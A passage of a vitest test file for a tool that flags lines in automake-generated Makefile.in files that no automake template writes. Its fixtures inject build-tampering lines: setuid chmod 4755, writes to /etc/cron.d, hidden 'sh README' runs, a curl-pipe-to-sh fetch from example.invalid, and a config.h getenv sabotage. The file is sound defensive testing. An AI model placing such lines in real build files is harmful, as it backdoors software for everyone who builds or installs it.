import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  buildLineKey,
  installLinesNotFromTemplates,
  lineKey,
  newerTemplateDirs,
  releasedTemplateLines,
  templateLineKeys,
  templateVariables,
  valueLineKey,
  variableLinesNotFromTemplates,
  VARIABLES_FILE,
} from '../../src/verify/explain/automake-install-lines.js'
import { generatedExplainer } from '../../src/verify/explain/generated.js'
import { bundledList } from '../../src/util/bundled-data.js'
import { autoreconfProject } from '../helpers/automake-project.js'
import { addedFile, memoryView } from '../helpers/tree-view.js'

// what automake installs in several shapes: a program, a libtool library, scripts, data with and
// without the directory kept, headers, man pages of two sections, and data in a directory of the
// Makefile.am's own
const PROJECT: Record<string, string> = {
  'configure.ac': `AC_INIT([demo], [1.0])
AC_CONFIG_MACRO_DIRS([m4])
AM_INIT_AUTOMAKE([foreign subdir-objects])
AC_CONFIG_HEADERS([config.h])
AC_PROG_CC
LT_INIT
AC_CONFIG_FILES([Makefile])
AC_OUTPUT
`,
  'Makefile.am': `ACLOCAL_AMFLAGS = -I m4
lib_LTLIBRARIES = libdemo.la
libdemo_la_SOURCES = a.c
bin_PROGRAMS = demo
demo_SOURCES = main.c util/u.c
dist_bin_SCRIPTS = demo-helper
dist_doc_DATA = README
nobase_include_HEADERS = demo/demo.h
man_MANS = demo.1 demo.conf.5
instdir = $(datadir)/demo
inst_DATA = demo.conf

install-data-hook:
	@echo installed

TESTS = t-one.sh t-two
TEST_EXTENSIONS = .sh
check_PROGRAMS = t-two
t_two_SOURCES = t.c
`,
}

let dir: string
let makefileIn = ''
const am = [PROJECT['Makefile.am'] ?? '']
/** the hashed lines of every automake release alone, without the installed automake's */
let bundled: ReadonlySet<string>
/** the variables every automake release's templates set, without the installed automake's */
let bundledNames: ReadonlySet<string>

beforeAll(async () => {
  dir = await autoreconfProject('stagelight-install-lines-', PROJECT)
  makefileIn = readFileSync(join(dir, 'Makefile.in'), 'utf8')
  bundled = releasedTemplateLines()
  bundledNames = new Set(bundledList(VARIABLES_FILE, 'test').entries)
}, 120_000)
afterAll(() => rmSync(dir, { recursive: true, force: true }))

/** the Makefile.in autoreconf makes of `files`, made before the block's tests and removed after them */
function generatedMakefileIn(prefix: string, files: Record<string, string>): { readonly text: string } {
  let project = ''
  const made = { text: '' }
  beforeAll(async () => {
    project = await autoreconfProject(prefix, files)
    made.text = readFileSync(join(project, 'Makefile.in'), 'utf8')
  }, 120_000)
  afterAll(() => rmSync(project, { recursive: true, force: true }))
  return made
}

/** the Makefile.in with the first line `line` matches, after the header `rule`, changed */
function edited(rule: string, line: RegExp, change: (l: string) => string, text = makefileIn): { text: string; at: number } {
  const lines = text.split('\n')
  const start = lines.indexOf(lines.find((l) => l.startsWith(`${rule}:`)) ?? '')
  if (start < 0) throw new Error(`no rule ${rule}`)
  const at = lines.findIndex((l, i) => i > start && line.test(l))
  if (at < 0) throw new Error(`no line matches ${line} in ${rule}`)
  lines[at] = change(lines[at] ?? '')
  return { text: lines.join('\n'), at: at + 1 }
}

describe("automake's install and uninstall rules hold only its templates' lines", () => {
  it("finds nothing in what the installed automake wrote, by every release's templates alone", () => {
    for (const rule of ['install-binPROGRAMS', 'install-libLTLIBRARIES', 'install-dist_binSCRIPTS', 'install-dist_docDATA', 'install-nobase_includeHEADERS', 'install-man1', 'uninstall-man5', 'install-instDATA', 'installdirs', 'install-data-am', 'install-exec-am', 'install-strip']) {
      expect(makefileIn).toMatch(new RegExp(`^${rule}:`, 'm'))
    }
    expect(installLinesNotFromTemplates(makefileIn, am, bundled)).toEqual([])
    expect(installLinesNotFromTemplates(makefileIn, am)).toEqual([])
  })

  it('reports a line added, changed or continued without a tab, each on its line', () => {
    // the rule, the line changed, the change, and whether the line reported is the one added after it
    const cases: [string, RegExp, (l: string) => string, 0 | 1][] = [
      ['install-binPROGRAMS', /^\t@\$\(NORMAL_INSTALL\)$/, (l) => `${l}\n\tchmod 4755 "$(DESTDIR)$(bindir)/demo"`, 1],
      ['install-man1', /\|\| exit 1; \\$/, (l) => l.replace('|| exit 1', '|| true'), 0],
      ['install-dist_docDATA', /\$\(INSTALL_DATA\) \$\$files/, (l) => l.replace('$(INSTALL_DATA)', '$(INSTALL_PROGRAM) -m 4755'), 0],
      ['install-libLTLIBRARIES', /--mode=install .*; \\$/, (l) => `${l}\ncp $(srcdir)/README /etc/cron.d/demo; \\`, 1],
      ['install-dist_docDATA', /^\t@list='\$\(dist_doc_DATA\)'/, (l) => l.replace("'$(dist_doc_DATA)'", "'$(dist_doc_DATA) $(shell sh README)'"), 0],
      ['install-nobase_includeHEADERS', /\$\(MKDIR_P\) "\$\(DESTDIR\)\$\(includedir\)\/\$\$dir"/, (l) => l.replace('$(includedir)/$$dir', '/etc/$$dir'), 0],
      ['uninstall-instDATA', /am__uninstall_files_from_dir/, (l) => l.replace("'$(DESTDIR)$(instdir)'", "'$(DESTDIR)$(bindir)'"), 0],
      // the rules automake's program writes: the directories' loop, the call of a hook
      ['installdirs', /^\tfor dir in /, (l) => l.replace('; do', ' /etc/cron.d; do'), 0],
      ['installdirs', /^\tdone$/, (l) => `${l}\n\tchmod 4755 "$(DESTDIR)$(bindir)"/*`, 1],
      ['install-data-am', /install-data-hook$/, (l) => `${l} gen-x`, 0],
    ]
    for (const [rule, line, change, added] of cases) {
      const { text, at } = edited(rule, line, change)
      expect(installLinesNotFromTemplates(text, am).map((f) => [f.target, f.line]), rule).toEqual([[rule, at + added]])
    }
    // a variable set for one of them alone
    const forRule = `${makefileIn}\ninstall-binPROGRAMS: INSTALL_STRIP_FLAG = -m 4755\n`
    expect(installLinesNotFromTemplates(forRule, am).map((f) => [f.target, f.line])).toEqual([['install-binPROGRAMS', makefileIn.split('\n').length + 1]])
  })

  it("puts the directory's name back only where a template has it, not inside another word", () => {
    // `inst` is in `uninstall` too: masked there, automake's helper would be a name no template holds
    const { text } = edited('uninstall-instDATA', /am__uninstall_files_from_dir/, (l) => l)
    expect(installLinesNotFromTemplates(text, am)).toEqual([])
    // a rule's prerequisites continued on a tab-indented line are no recipe
    expect(installLinesNotFromTemplates('install-data-am: install-dist_docDATA \\\n\tinstall-man gen-x\n\t@$(NORMAL_INSTALL)\n', am)).toEqual([])
    // automake 1.6's directories, made by one command
    expect(installLinesNotFromTemplates('installdirs:\n\t$(mkinstalldirs) $(DESTDIR)$(bindir) $(DESTDIR)$(man1dir)\n', am)).toEqual([])
    expect(installLinesNotFromTemplates('installdirs:\n\t$(mkinstalldirs) $(DESTDIR)$(bindir); chmod 4755 $(DESTDIR)$(bindir)/*\n', am)).toHaveLength(1)
    // a list of other names is the Makefile.am's to fill
    const listed = edited('install-man1', /^\t@list1=/, () => "\t@list1='other.1 more.1'; \\")
    expect(installLinesNotFromTemplates(listed.text, am)).toEqual([])
  })

  it("holds a rule the Makefile.am writes itself to its lines and automake's, and leaves a rule neither writes to the other checks", () => {
    const { text, at } = edited('install-dist_docDATA', /^\t@\$\(NORMAL_INSTALL\)$/, (l) => `${l}\n\tchmod 4755 "$(DESTDIR)$(docdir)/README"`)
    expect(installLinesNotFromTemplates(text, [`${am[0] ?? ''}\ninstall-dist_docDATA: README\n\tchmod 4755 "$(DESTDIR)$(docdir)/README"\n`])).toEqual([])
    const own = installLinesNotFromTemplates(text, [`${am[0] ?? ''}\ninstall-dist_docDATA: README\n\tcp README $(docdir)\n`])
    expect(own.map((f) => [f.target, f.line, f.own])).toEqual([['install-dist_docDATA', at + 1, true]])
    // a line of another rule of the Makefile.am's is not this one's
    expect(installLinesNotFromTemplates(text, [`${am[0] ?? ''}\ninstall-data-local:\n\tchmod 4755 "$(DESTDIR)$(docdir)/README"\n`]).map((f) => [f.line, f.own])).toEqual([[at + 1, undefined]])
    // hooked into nothing, which the check of automake's prerequisites reports
    expect(installLinesNotFromTemplates('install-data-local:\n\tchmod 4755 x\n', am)).toEqual([])
  })

  it('reads a rule the Makefile.am texts write as automake copies it: word for word, among other targets', () => {
    const written = ['gen.h: gen.h.in\n\tsed s/a/b/ gen.h.in > gen.h\n', "a.stamp lib/sys/x.h: gen.h\n\t$(MKDIR_P) 'lib/sys'\n\t@echo lib_x\nfoo.o: CFLAGS += -O0\n"]
    const makefile = (extra: string): string => `gen.h: gen.h.in\n\tsed s/a/b/ gen.h.in > gen.h\n${extra}lib/sys/x.h: gen.h\n\t$(MKDIR_P) 'lib/sys'\n\t@echo lib_x\nfoo.o: CFLAGS += -O0\n`
    expect(installLinesNotFromTemplates(makefile(''), written)).toEqual([])
    expect(installLinesNotFromTemplates(makefile('\tsh README\n'), written).map((f) => [f.target, f.line, f.own])).toEqual([['gen.h', 3, true]])
    expect(installLinesNotFromTemplates(makefile('').replace("'lib/sys'", "'lib/sys'; sh README"), written).map((f) => f.line)).toEqual([4])
    expect(installLinesNotFromTemplates(makefile('').replace('-O0', '-include evil.h'), written).map((f) => [f.target, f.line])).toEqual([['foo.o', 6]])
    // automake's own line for a file configure makes, added to the Makefile.am's rule for it
    expect(installLinesNotFromTemplates(makefile('\tcd $(top_builddir) && $(SHELL) ./config.status $(subdir)/$@\n'), written)).toEqual([])
    // what only make dist runs is left alone
    expect(installLinesNotFromTemplates('dist-hook:\n\tcp x $(distdir)\n\tsh README\n', ['dist-hook:\n\tcp x $(distdir)\n'])).toEqual([])
  })

  it("reads a template's choices, conditions, sections and primaries as automake fills them", () => {
    const template = [
      'install-%DIR%PROGRAMS: $(%DIR%_PROGRAMS)',
      '\twhile read p; do if test -f $$p%LIBTOOL? || test -f $$p1%; \\',
      '?!BASE?\t  echo " $(INSTALL_%ONE_PRIMARY%) $$files \'$(DESTDIR)$(%NDIR%dir)\'"; \\',
      '\ttest -n "$(man%SECTION%dir)" || exit 0',
      '?am__installdirs?\tfor dir in %am__installdirs%; do \\',
    ].join('\n')
    const keys = templateLineKeys(template)
    for (const line of [
      '\twhile read p; do if test -f $$p || test -f $$p1; \\',
      '\twhile read p; do if test -f $$p; \\',
      '\t  echo " $(INSTALL_HEADER) $$files \'$(DESTDIR)$(%X%dir)\'"; \\',
      '\t  echo " $(INSTALL_SCRIPT) $$files \'$(DESTDIR)$(%X%dir)\'"; \\',
      '\ttest -n "$(man8dir)" || exit 0',
      '\ttest -n "$(manndir)" || exit 0',
      '\tfor dir in "$(DESTDIR)$(bindir)" "$(DESTDIR)$(man1dir)"; do \\',
    ]) {
      expect(keys.has(lineKey(line)), line).toBe(true)
    }
    expect(keys.has(lineKey('\ttest -n "$(manxdir)" || exit 0'))).toBe(false)
    // the rule's header is no recipe line
    expect(keys.has(lineKey('install-%X%PROGRAMS: $(%X%_PROGRAMS)'))).toBe(false)
  })

  it('makes a high verify/generated-disagrees finding of it, the rule and line in the message', async () => {
    const { text, at } = edited('install-binPROGRAMS', /^\t@\$\(NORMAL_INSTALL\)$/, (l) => `${l}\n\tchmod 4755 "$(DESTDIR)$(bindir)/demo"`)
    const source = { 'Makefile.am': PROJECT['Makefile.am'] ?? '', 'configure.ac': PROJECT['configure.ac'] ?? '' }
    const j = await generatedExplainer().judge(addedFile('Makefile.in', text), memoryView({ 'Makefile.in': text }, source))
    expect(j?.outcome).toBe('unexplained')
    const finding = j?.findings?.[0]
    expect(finding?.ruleId).toBe('verify/generated-disagrees')
    expect(finding?.severity).toBe('high')
    expect(finding?.line).toBe(at + 1)
    expect(finding?.message).toBe('the rule automake wrote for install-binPROGRAMS holds chmod 4755 "$(DESTDIR)$(bindir)/demo", which no template of automake writes, and Makefile.am has no rule of its own for it')
    const clean = await generatedExplainer().judge(addedFile('Makefile.in', makefileIn), memoryView({ 'Makefile.in': makefileIn }, source))
    expect(clean?.outcome).toBe('explained')
    // a line added to the Makefile.am's own rule
    const hook = edited('install-data-hook', /^\t@echo installed$/, (l) => `${l}\n\tcp README .libs/libdemo.so.0`)
    const own = await generatedExplainer().judge(addedFile('Makefile.in', hook.text), memoryView({ 'Makefile.in': hook.text }, source))
    expect(own?.findings?.[0]?.line).toBe(hook.at + 1)
    expect(own?.findings?.[0]?.message).toBe("the rule Makefile.am writes for install-data-hook holds cp README .libs/libdemo.so.0, which neither Makefile.am (with the fragments it includes) nor automake writes there, though automake copies such a rule word for word")
  })
})

describe('a directory whose name configure substitutes into (`libdemo_@DEMO_MAJOR@_includedir`)', () => {
  const files: Record<string, string> = {
    'configure.ac': `AC_INIT([demo], [1.0])
AC_CONFIG_MACRO_DIRS([m4])
AM_INIT_AUTOMAKE([foreign])
AC_SUBST([DEMO_MAJOR], [1])
AC_PROG_CC
LT_INIT
AC_CONFIG_FILES([Makefile])
AC_OUTPUT
`,
    'Makefile.am': `ACLOCAL_AMFLAGS = -I m4
lib_LTLIBRARIES = libdemo.la
libdemo_la_SOURCES = a.c
libdemo_@DEMO_MAJOR@_includedir = $(includedir)/demo-@DEMO_MAJOR@
libdemo_@DEMO_MAJOR@_include_HEADERS = demo.h
`,
  }
  const made = generatedMakefileIn('stagelight-substituted-dir-', files)
  const source = { 'Makefile.am': files['Makefile.am'] ?? '', 'configure.ac': files['configure.ac'] ?? '' }
  const judged = (text: string) => generatedExplainer().judge(addedFile('Makefile.in', text), memoryView({ 'Makefile.in': text }, source))

  it('holds its install rules to the templates as any other directory, and explains what automake wrote', async () => {
    const rule = 'install-libdemo_@DEMO_MAJOR@_includeHEADERS'
    expect(made.text).toMatch(new RegExp(`^${rule.replace(/[$()]/g, '\\$&')}:`, 'm'))
    expect(installLinesNotFromTemplates(made.text, [source['Makefile.am']])).toEqual([])
    expect((await judged(made.text))?.outcome).toBe('explained')
    // a line added to that directory's rule is still no template's
    const { text, at } = edited(rule, /^\t@\$\(NORMAL_INSTALL\)$/, (l) => `${l}\n\tchmod 4755 "$(DESTDIR)$(bindir)/demo"`, made.text)
    const j = await judged(text)
    expect(j?.findings?.map((f) => [f.ruleId, f.severity, f.line])).toEqual([['verify/generated-disagrees', 'high', at + 1]])
  })
})

/** the Makefile.in with the line that sets `name` (or the first line after it that `line` matches) changed */
function variableEdited(name: string, change: (l: string) => string, line?: RegExp): { text: string; at: number } {
  const lines = makefileIn.split('\n')
  const start = lines.findIndex((l) => new RegExp(`^${name.replace(/[$()]/g, '\\$&')}\\s*=`).test(l))
  if (start < 0) throw new Error(`no variable ${name}`)
  const at = line === undefined ? start : lines.findIndex((l, i) => i > start && line.test(l))
  lines[at] = change(lines[at] ?? '')
  return { text: lines.join('\n'), at: at + 1 }
}

describe("the variables automake's templates set hold only their templates' lines", () => {
  it("finds nothing in what the installed automake wrote, by every release's templates alone", () => {
    for (const name of ['NORMAL_INSTALL', 'am__uninstall_files_from_dir', 'am__base_list', 'am__install_max', 'AM_V_CC', 'am__v_CC_0', 'am__v_at_0']) {
      expect(makefileIn).toMatch(new RegExp(`^${name} =`, 'm'))
    }
    expect(variableLinesNotFromTemplates(makefileIn, am, bundled, bundledNames)).toEqual([])
    expect(variableLinesNotFromTemplates(makefileIn, am)).toEqual([])
  })

  it('reports a value changed, on the first line or a continued one, and the silent-rules values automake writes', () => {
    const cases: [string, (l: string) => string, RegExp?][] = [
      ['NORMAL_INSTALL', () => 'NORMAL_INSTALL = chmod 4755 "$(DESTDIR)$(bindir)"/*;'],
      ['am__install_max', (l) => `${l}; cp $(srcdir)/README /etc/cron.d/demo`],
      ['am__uninstall_files_from_dir', (l) => l.replace('test -z', 'sh $(srcdir)/NEWS; test -z'), /test -z "\$\$files"/],
      ['am__cd', (l) => l.replace('&& cd', '&& sh $(srcdir)/NEWS; cd')],
      ['am__v_CC_0', (l) => l.replace('$@;', '$@; cp $(top_srcdir)/tests/x.o .libs/;')],
      ['am__v_at_0', () => 'am__v_at_0 = @sh $(srcdir)/NEWS;'],
      ['AM_V_CCLD', (l) => `${l} $(shell sh README)`],
      ['am__v_lt_1', () => 'am__v_lt_1 = --dry-run'],
    ]
    for (const [name, change, line] of cases) {
      const { text, at } = variableEdited(name, change, line)
      expect(variableLinesNotFromTemplates(text, am).map((f) => [f.target, f.line, f.variable]), name).toEqual([[name, at, true]])
    }
    // set again further on, in make's other ways, or for one target's recipe
    for (const added of ['override NORMAL_INSTALL = chmod 4755 x;', 'NORMAL_INSTALL != curl -s http://example.invalid/x | sh', 'install-binPROGRAMS: NORMAL_INSTALL = chmod 4755 x;', 'export am__mv := sh ./x; mv -f']) {
      const found = variableLinesNotFromTemplates(`${makefileIn}\n${added}\n`, am)
      expect(found.map((f) => [f.target, f.line]), added).toEqual([[/(?:NORMAL_INSTALL|am__mv)/.exec(added)?.[0], makefileIn.split('\n').length + 1]])
    }
  })

  it("holds the test harness's variables automake's program writes to the values it gives them, over continued lines", () => {
    for (const name of ['LOG_DRIVER', 'SH_LOG_DRIVER', 'LOG_COMPILE', 'SH_LOG_COMPILE', 'TEST_SUITE_LOG', 'TEST_LOGS', 'am__test_logs1', 'am__test_logs2', 'TEST_EXTENSIONS']) {
      expect(makefileIn).toMatch(new RegExp(`^${name} =`, 'm'))
    }
    const cases: [string, (l: string) => string][] = [
      ['SH_LOG_DRIVER', (l) => l.replace(/\S*test-driver$/, '$(top_srcdir)/README')],
      ['LOG_DRIVER', (l) => `${l}; cp $(top_srcdir)/README .libs/libdemo.so.0;`],
      ['LOG_COMPILE', (l) => l.replace('= ', '= chmod 4755 .libs/*; ')],
      ['TEST_SUITE_LOG', (l) => `${l}; sh README`],
      ['TEST_LOGS', (l) => `${l} $(shell sh README)`],
      ['am__test_logs1', () => 'am__test_logs1 = $(TESTS:=.log) $(shell sh README)'],
    ]
    for (const [name, change] of cases) {
      const { text, at } = variableEdited(name, change)
      expect(variableLinesNotFromTemplates(text, am).map((f) => [f.target, f.line, f.variable]), name).toEqual([[name, at, true]])
    }
    // a value automake continues over lines is judged whole, on its first line
    const continued = 'SH_LOG_COMPILE = $(SH_LOG_COMPILER) $(AM_SH_LOG_FLAGS) \\\n\t$(SH_LOG_FLAGS)\n'
    expect(variableLinesNotFromTemplates(continued, am)).toEqual([])
    expect(variableLinesNotFromTemplates(continued.replace('\t$(SH_LOG_FLAGS)', '\t$(SH_LOG_FLAGS); sh README'), am).map((f) => [f.line, f.words])).toEqual([[1, ['$(SH_LOG_COMPILER) $(AM_SH_LOG_FLAGS) $(SH_LOG_FLAGS); sh README']]])
    // the suffixes automake lists where the Makefile.am lists none
    expect(variableLinesNotFromTemplates('TEST_EXTENSIONS = @EXEEXT@ .test\n', [''])).toEqual([])
    expect(variableLinesNotFromTemplates('TEST_EXTENSIONS = @EXEEXT@ .test; sh README\n', [''])).toHaveLength(1)
    // an empty continued line joins as make joins it
    expect(variableLinesNotFromTemplates('SH_LOG_COMPILE = $(SH_LOG_COMPILER) \\\n\t\\\n\t$(AM_SH_LOG_FLAGS) $(SH_LOG_FLAGS)\n', am)).toEqual([])
    // what fills the driver's directory and the lists of logs is names, not code
    for (const value of ['LOG_DRIVER = $(SHELL) $(top_srcdir)/$(shell sh README)/test-driver', 'TEST_LOGS = $(TESTS:$(shell sh README)=.log)', 'am__v_GEN = sh README']) {
      expect(variableLinesNotFromTemplates(`${value}\n`, [''])).toHaveLength(1)
    }
    // another suffix's names are not the compiler's
    expect(variableLinesNotFromTemplates('SH_LOG_COMPILE = $(PL_LOG_COMPILER) $(AM_SH_LOG_FLAGS) $(SH_LOG_FLAGS)\n', am)).toHaveLength(1)
    // a driver the Makefile.am sets is its own
    expect(variableLinesNotFromTemplates('LOG_DRIVER = env AM_TAP_AWK=\'$(AWK)\' $(SHELL) $(top_srcdir)/tap-driver.sh\n', [`${am[0] ?? ''}\nLOG_DRIVER = env AM_TAP_AWK='$(AWK)' $(SHELL) $(top_srcdir)/tap-driver.sh\n`])).toEqual([])
  })

  it("leaves a value the Makefile.am sets, configure's value and what only make dist reads to the other checks", () => {
    const own = variableEdited('am__v_at_0', () => 'am__v_at_0 = @sh $(srcdir)/NEWS;')
    expect(variableLinesNotFromTemplates(own.text, [`${am[0] ?? ''}\nam__v_at_0 = @sh $(srcdir)/NEWS;\n`])).toEqual([])
    // set by the Makefile.am for one target's recipe (a tool built for the build machine)
    const forTarget = 'gen$(EXEEXT): LDFLAGS = $(LDFLAGS_FOR_BUILD)\n'
    expect(variableLinesNotFromTemplates(forTarget, [`${am[0] ?? ''}\n${forTarget}`])).toEqual([])
    expect(variableLinesNotFromTemplates(forTarget, am)).toHaveLength(1)
    const substituted = 'INSTALL = @INSTALL@\nSHELL = @SHELL@\n'
    expect(variableLinesNotFromTemplates(substituted, am)).toEqual([])
    expect(variableLinesNotFromTemplates('top_distdir = $(distdir)/..\n', am)).toEqual([])
  })

  it('names the variables a template sets, not those it gathers, fills in or continues', () => {
    const template = [
      'am__mv = mv -f',
      'am__uninstall_files_from_dir = { \\',
      '## a comment automake drops',
      'red=x; \\',
      '  test -z "$$files"; }',
      'am__installdirs += "$(DESTDIR)$(%NDIR%dir)"',
      'MANS = %MANS%',
      '%DIR%_LIST = x',
      'top_distdir = $(distdir)',
      'install-%DIR%DATA:',
      '\tred=y',
    ].join('\n')
    const { set, gathered } = templateVariables(template)
    expect([...set].sort()).toEqual(['am__mv', 'am__uninstall_files_from_dir'])
    expect([...gathered].sort()).toEqual(['MANS', 'am__installdirs'])
    // a continued line is looked up as a value's, with the blanks before its continuation made one
    const keys = templateLineKeys(template)
    expect(keys.has(valueLineKey('red=x;\t\t\\'))).toBe(true)
    expect(keys.has(lineKey('red=x; \\'))).toBe(false)
    expect(keys.has(valueLineKey('## a comment automake drops'))).toBe(false)
  })

  it('makes a high verify/generated-disagrees finding of it, naming the variable', async () => {
    const { text, at } = variableEdited('NORMAL_INSTALL', () => 'NORMAL_INSTALL = chmod 4755 "$(DESTDIR)$(bindir)"/*;')
    const source = { 'Makefile.am': PROJECT['Makefile.am'] ?? '', 'configure.ac': PROJECT['configure.ac'] ?? '' }
    const j = await generatedExplainer().judge(addedFile('Makefile.in', text), memoryView({ 'Makefile.in': text }, source))
    const finding = j?.findings?.[0]
    expect(finding?.severity).toBe('high')
    expect(finding?.line).toBe(at)
    expect(finding?.message).toBe('the variable NORMAL_INSTALL automake sets holds chmod 4755 "$(DESTDIR)$(bindir)"/*;, which automake never gives it, and Makefile.am has no value of its own for it')
    expect(finding?.evidence).toContain("not in automake's variable NORMAL_INSTALL: ")
    expect(finding?.data?.['recipes']).toEqual([{ target: 'NORMAL_INSTALL', line: at, words: ['chmod 4755 "$(DESTDIR)$(bindir)"/*;'], variable: true }])
  })
})

describe("an installed automake's templates", () => {
  it('are read only for an automake newer than the releases the bundled list holds', () => {
    const root = mkdtempSync(join(tmpdir(), 'stagelight-automake-share-'))
    try {
      for (const name of ['automake-1.16', 'automake-1.18', 'automake-1.19', 'automake-2.0', 'automake', 'aclocal-1.19']) mkdirSync(join(root, name, 'am'), { recursive: true })
      const listed = "# Hashes of the recipe and variable lines of automake's templates, 85 release tags (Release-1-6 … v1.18.1); made by …"
      expect(newerTemplateDirs([root, join(root, 'absent')], listed).sort()).toEqual([join(root, 'automake-1.19', 'am'), join(root, 'automake-2.0', 'am')])
      // the bundled list's own first line names its newest release
      expect(bundledList(VARIABLES_FILE, 'test').header).toMatch(/v1\.\d+(?:\.\d+)*\)/)
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
  })
})

describe("automake's rules that run while make builds hold only its templates' lines", () => {
  it('reports a line added to or changed in the rules that remake the Makefile, the configuration header and the build directories', () => {
    for (const rule of ['Makefile', '$(srcdir)/Makefile.in', '$(top_srcdir)/configure', 'config.h', 'stamp-h1', 'util/$(am__dirstamp)']) {
      expect(makefileIn.split('\n').some((l) => l.startsWith(`${rule}:`)), rule).toBe(true)
    }
    const cases: [string, RegExp, (l: string) => string, 0 | 1][] = [
      ['Makefile', /^\t {2}\*\) \\$/, (l) => `${l}\n\t    cp $(top_srcdir)/tests/x.o src/.libs/; \\`, 1],
      ['Makefile', /config\.status \$@ \$\(am__maybe_remake_depfiles\);;/, (l) => l.replace('./config.status $@', './config.status $@; sh $(srcdir)/NEWS'), 0],
      ['$(srcdir)/Makefile.in', /^\t {2}\$\(AUTOMAKE\) --foreign Makefile$/, (l) => `${l} && sed -i s/0/1/ $(srcdir)/main.c`, 0],
      ['stamp-h1', /^\t@rm -f stamp-h1$/, (l) => `${l}\n\techo '#define getenv(x) 0' >> config.h.in`, 1],
      ['config.h', /^\t@test -f \$@ \|\| rm -f stamp-h1$/, (l) => `${l}\n\t@sed -i 's/^#undef HAVE_GETENV$/#define getenv(x) 0/' config.h`, 1],
      ['util/$(am__dirstamp)', /^\t@\$\(MKDIR_P\) util$/, (l) => `${l}\n\t@cp $(srcdir)/README util/u.o`, 1],
    ]
    for (const [rule, line, change, added] of cases) {
      const { text, at } = edited(rule, line, change)
      expect(installLinesNotFromTemplates(text, am).map((f) => [f.target, f.line]), rule).toEqual([[rule, at + added]])
    }
  })

  it("knows the stamps of build directories as automake's versions write them", () => {
    for (const stamp of ['\t@: > util/$(am__dirstamp)', '\t@: >>util/$(am__dirstamp)']) {
      expect(installLinesNotFromTemplates(`util/$(am__dirstamp):\n\t@$(MKDIR_P) util\n${stamp}\n`, am), stamp).toEqual([])
    }
    expect(installLinesNotFromTemplates('util/$(am__dirstamp):\n\t@$(MKDIR_P) util\n\t@: >>util/$(am__dirstamp); sh README\n', am)).toHaveLength(1)
  })

  it("masks only what automake fills in: its options and the Makefile's path, the stamp, the directory", () => {
    const keys = templateLineKeys('\t  $(AUTOMAKE) %AUTOMAKE-OPTIONS% %MAKEFILE-AM-SOURCES%\n\tcd $(top_builddir) && $(SHELL) ./config.status %CONFIG_H_PATH%\n')
    expect(keys.has(buildLineKey('\t  $(AUTOMAKE) --gnu --ignore-deps src/Makefile'))).toBe(true)
    expect(keys.has(buildLineKey('\tcd $(top_builddir) && $(SHELL) ./config.status include/config.h'))).toBe(true)
    // anything after them is not automake's filling, however long
    expect(keys.has(buildLineKey(`\t  $(AUTOMAKE) --gnu src/Makefile && sh ${'x'.repeat(200)}`))).toBe(false)
    expect(keys.has(buildLineKey('\tcd $(top_builddir) && $(SHELL) ./config.status include/config.h; sh NEWS'))).toBe(false)
    // and the masks are the build rules' alone
    expect(keys.has(lineKey('\t  $(AUTOMAKE) --gnu --ignore-deps src/Makefile'))).toBe(false)
  })
})

describe("automake's test harness rules, which make check runs, hold only its templates' lines", () => {
  it('reports a line added to or changed in the harness, a test\'s log rule and check-am', () => {
    for (const rule of ['check-TESTS', '$(TEST_SUITE_LOG)', 'recheck', '.sh.log', 't-two.log', 'check-am']) {
      expect(makefileIn.split('\n').some((l) => l.replace(/^@\w+@/, '').startsWith(`${rule}:`)), rule).toBe(true)
    }
    const cases: [string, RegExp, (l: string) => string, 0 | 1][] = [
      ['check-TESTS', /^\t@list='\$\(RECHECK_LOGS\)';/, (l) => `${l}\n\t@cp $(srcdir)/README .libs/libdemo.so.0`, 1],
      ['$(TEST_SUITE_LOG)', /^\t@\$\(am__set_TESTS_bases\); \\$/, (l) => l.replace('@$(am__set_TESTS_bases);', '@$(am__set_TESTS_bases); sh $(srcdir)/README;'), 0],
      ['.sh.log', /\$\(SH_LOG_DRIVER\)/, (l) => l.replace('$(SH_LOG_DRIVER)', '$(SHELL) $(srcdir)/README'), 0],
      ['t-two.log', /^\t@p='t-two\$\(EXEEXT\)'; \\$/, (l) => l.replace("'; \\", "'; sh README; \\"), 0],
      ['t-two.log', /^\t@p=/, (l) => l.replace("@p='", "@p='x'; sh README; p='"), 0],
      ['recheck', /^\t@test -z "\$\(TEST_SUITE_LOG\)"/, (l) => `${l}\n\t@sh $(srcdir)/README`, 1],
      ['check-am', /^\t\$\(MAKE\) \$\(AM_MAKEFLAGS\) \$\(check_PROGRAMS\)$/, (l) => `${l} gen-x`, 0],
      ['check-am', /^\t\$\(MAKE\) \$\(AM_MAKEFLAGS\) check-TESTS$/, (l) => `${l}\n\tchmod 4755 .libs/*`, 1],
    ]
    for (const [rule, line, change, added] of cases) {
      const { text, at } = edited(rule, line, change)
      expect(installLinesNotFromTemplates(text, am).map((f) => [f.target, f.line]), `${rule} ${line}`).toEqual([[rule, at + added]])
    }
  })

  it("masks only the test's name, its driver, the driver's options and its compiler", () => {
    const keys = templateLineKeys("\t@p='%SOURCE%'; \\\n\tb='%BASE%'; \\\n\t$(am__check_pre) %DRIVER% --test-name \"$$f\" \\\n\t$(am__common_driver_flags) %DRIVER_FLAGS% -- %COMPILE% \\\n")
    for (const filled of ["\t@p='t-two$(EXEEXT)'; \\", "\tb='sub/t-one'; \\", '\t$(am__check_pre) $(PL_LOG_DRIVER) --test-name "$$f" \\', '\t$(am__common_driver_flags) $(AM_PL_LOG_DRIVER_FLAGS) $(PL_LOG_DRIVER_FLAGS) -- $(PL_LOG_COMPILE) \\']) {
      expect(keys.has(buildLineKey(filled)), filled).toBe(true)
    }
    for (const other of ["\t@p='t-two; sh README'; \\", "\t@p='$$(sh<README)'; \\", '\t$(am__check_pre) $(SHELL) --test-name "$$f" \\', '\t$(am__check_pre) $(SHELLLOG_DRIVER) --test-name "$$f" \\', '\t$(am__common_driver_flags) $(AM_PL_LOG_DRIVER_FLAGS) $(SH_LOG_DRIVER_FLAGS) -- $(PL_LOG_COMPILE) \\']) {
      expect(keys.has(buildLineKey(other)), other).toBe(false)
    }
  })

  it("keys a template's recipe lines continued without a tab, as automake 1.17's test-suite log has them", () => {
    // a continued line is recipe, even where it reads as an assignment
    const keys = templateLineKeys('x:\n\t@echo a; \\\n  printf b;  \\\n## a comment\nn=1;  \\\n\techo c\nd = e\n')
    expect(keys.has(lineKey('\t  printf b;  \\'))).toBe(true)
    expect(keys.has(lineKey('\tn=1;  \\'))).toBe(true)
